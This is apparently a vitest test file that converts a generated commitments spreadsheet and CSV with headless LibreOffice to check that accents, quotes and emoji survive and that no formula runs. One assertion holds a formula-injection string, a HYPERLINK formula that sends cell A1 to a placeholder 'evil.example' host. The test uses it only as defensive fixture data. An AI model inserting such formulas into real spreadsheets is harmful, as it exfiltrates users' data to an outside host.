/**
 * commitments.xlsx opened as a person opens it: LibreOffice headless (`soffice --convert-to`)
 * reads the workbook and writes its cells back out, accents intact; the CSV, double-clicked into
 * a spreadsheet that assumes the Windows code page (what Excel does with a CSV without BOM),
 * is the garbling the spreadsheet exists to avoid. CI installs LibreOffice (.ci/run).
 */
import { execFile } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { parse } from 'csv-parse/sync';
import { afterAll, describe, expect, it } from 'vitest';
import { renderPlanArtifacts } from '#shared/publish/publish';
import { COMMITMENT_COLUMNS } from '#shared/render/csv';
import { fixtureSnapshot } from '#tests/support/render-fixture';

const run = promisify(execFile);
const folder = mkdtempSync(join(tmpdir(), 'xlsx-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const artifacts = renderPlanArtifacts(fixtureSnapshot());
const bodyOf = (file: string) => artifacts.find((a) => a.key.endsWith(`/${file}`))!.body;
writeFileSync(join(folder, 'commitments.xlsx'), bodyOf('commitments.xlsx'));
writeFileSync(join(folder, 'commitments.csv'), bodyOf('commitments.csv'));

/** soffice with a profile of its own (several may run at once on a shared machine); returns the converted file's text. */
async function soffice(file: string, filter: string, infilter?: string): Promise<string> {
  const out = join(folder, `out-${Math.random().toString(36).slice(2)}`);
  await run(
    'soffice',
    [
      `-env:UserInstallation=file://${join(folder, 'profile')}`,
      '--headless',
      ...(infilter ? [`--infilter=${infilter}`] : []),
      '--convert-to',
      filter,
      '--outdir',
      out,
      join(folder, file),
    ],
    { timeout: 90_000 },
  );
  return readFileSync(join(out, file.replace(/\.\w+$/, '.csv')), 'utf8');
}

// UTF-8 output (76), comma, double quote.
const CSV_UTF8 = 'csv:Text - txt - csv (StarCalc):44,34,76';

describe('commitments.xlsx in LibreOffice', () => {
  it('opens with every accent, quote and emoji intact, the same rows and columns as the CSV, and no formula run', async () => {
    const rows = parse(await soffice('commitments.xlsx', CSV_UTF8), { relax_column_count: true }) as string[][];
    expect(rows[0]).toEqual([...COMMITMENT_COLUMNS]);
    const byId = new Map(rows.slice(1).map((row) => [row[3], Object.fromEntries(COMMITMENT_COLUMNS.map((c, i) => [c, row[i]]))]));
    expect([...byId.keys()]).toEqual(['c4', 'c5', 'c12']);
    const c4 = byId.get('c4')!;
    expect(c4.area).toBe('Desenvolupament Econòmic, Indústria i Ocupació');
    expect(c4.commitment_title).toBe(
      "Ajudarem les empreses locals per frenar la destrucció d'ocupació i per fomentar el creixement econòmic.",
    );
    expect(c4.progress).toBe('40');
    expect(c4.reported_at).toBe('2019-06-30T10:00:00Z');
    // Text stays text: the hostile formula is shown, not evaluated; emoji and quotes survive.
    expect(c4.observations).toContain('=HYPERLINK("http://evil.example/?q="&A1,"clic")');
    expect(c4.observations).toContain('🎉');
    expect(c4.observations).toContain('"cometes"');
    expect(byId.get('c5')!.commitment_title).toBe('-Impulsarem el comerç de proximitat');
    expect(byId.get('c12')!.progress).toBe('');
  }, 120_000);

  it('is needed: the BOM-less CSV read with the Windows code page, as a double-click does, garbles the accents', async () => {
    const text = await soffice('commitments.csv', CSV_UTF8, 'Text - txt - csv (StarCalc):44,34,1');
    expect(text).toContain('EconÃ²mic');
    expect(text).not.toContain('Econòmic');
  }, 120_000);
});
